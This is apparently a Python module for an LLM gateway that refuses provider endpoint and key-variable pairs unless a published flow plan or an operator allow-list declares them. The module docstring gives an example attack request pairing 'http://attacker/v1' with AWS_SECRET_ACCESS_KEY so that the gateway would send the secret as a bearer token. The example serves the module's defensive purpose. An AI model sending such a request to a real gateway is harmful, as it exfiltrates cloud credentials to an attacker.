"""Which provider endpoints the gateway may call with which key: only what a published flow declares.

A request names ``api_base`` and ``api_key_env`` (the worker copies them from its node's ``llm:``), but
a request is only a message: anyone who can publish to ``ca.llm.complete`` could ask for
``{"api_base": "http://attacker/v1", "api_key_env": "AWS_SECRET_ACCESS_KEY"}`` and have the gateway send
that secret as a bearer token. So the gateway takes the pair only when a plan of the request's flow,
as the scheduler published it in ``ca_plans`` (which only the scheduler may write, `bus.permissions`),
declares exactly that pair, or when the operator allowed it (``CA_LLM_ENDPOINTS``). Anything else is
refused before any connection is made, and a caller's ``api_base`` is never paired with a key of the
gateway's environment.
"""

from __future__ import annotations

from collections.abc import Iterable

import structlog
from nats.js.errors import KeyNotFoundError, NoKeysError
from nats.js.kv import KeyValue

from actors.flow import Plan
from configs import FlowSpec

log = structlog.get_logger(__name__)

# (api_base, api_key_env): None where the flow leaves the litellm default.
Endpoint = tuple[str | None, str | None]


def declared_endpoints(spec: FlowSpec) -> set[Endpoint]:
    """The (api_base, api_key_env) pairs a flow's nodes call with (a node's ``llm:`` or ``config.llm``)."""
    found: set[Endpoint] = set()
    for llm in [spec.config.llm, *(node.llm or spec.config.llm for node in spec.nodes)]:
        if llm is not None and (llm.api_base or llm.api_key_env):
            found.add((llm.api_base, llm.api_key_env))
    return found


def parse_allowed(text: str) -> set[Endpoint]:
    """The operator's allow-list: comma-separated ``API_BASE=KEY_ENV``, ``API_BASE`` or ``=KEY_ENV``.

    Raises:
        ValueError: an entry names neither.
    """
    found: set[Endpoint] = set()
    for entry in filter(None, (e.strip() for e in text.split(","))):
        base, _, env = entry.partition("=")
        if not base.strip() and not env.strip():
            raise ValueError(f"CA_LLM_ENDPOINTS: {entry!r} names no API base and no key variable")
        found.add((base.strip() or None, env.strip() or None))
    return found


class EndpointPolicy:
    """Checks a request's provider settings against the published plans and the operator's allow-list."""

    def __init__(self, plans: KeyValue | None, allowed: Iterable[Endpoint] = ()) -> None:
        self._kv = plans
        self._allowed = set(allowed)
        # Plan key (``<flow>.<version>``) → its pairs; every version counts (a run is pinned to its own).
        self._seen: dict[str, set[Endpoint]] = {}
        self._by_flow: dict[str, set[Endpoint]] = {}

    async def refusal(self, flow: str, api_base: str | None, api_key_env: str | None) -> str | None:
        """Why the gateway must not call with these settings, or None when a flow or the operator allows them."""
        if not api_base and not api_key_env:
            return None  # the provider's own endpoint and key, as litellm knows them
        pair: Endpoint = (api_base or None, api_key_env or None)
        if pair in self._allowed or pair in self._by_flow.get(flow, ()):
            return None
        if flow:
            await self._refresh()  # a flow published since the last look
            if pair in self._by_flow.get(flow, ()):
                return None
        log.warning("llm_gateway.endpoint_refused", flow=flow, api_base=api_base, api_key_env=api_key_env)
        return (
            f"api_base {api_base or '(default)'} with key variable {api_key_env or '(none)'} is not what "
            f"flow {flow or '(none)'} declares: the gateway calls only endpoints of published flows "
            "(or those allowed by CA_LLM_ENDPOINTS)"
        )

    async def _refresh(self) -> None:
        if self._kv is None:
            return
        try:
            keys = await self._kv.keys()
        except NoKeysError:
            return
        for key in keys:
            if key.endswith(".latest") or key in self._seen:
                continue
            try:
                entry = await self._kv.get(key)
            except KeyNotFoundError:
                continue
            try:
                plan = Plan.model_validate_json(entry.value or b"{}")
            except ValueError:
                log.warning("llm_gateway.bad_plan", key=key)
                self._seen[key] = set()
                continue
            pairs = declared_endpoints(plan.spec)
            self._seen[key] = pairs
            self._by_flow.setdefault(plan.flow, set()).update(pairs)
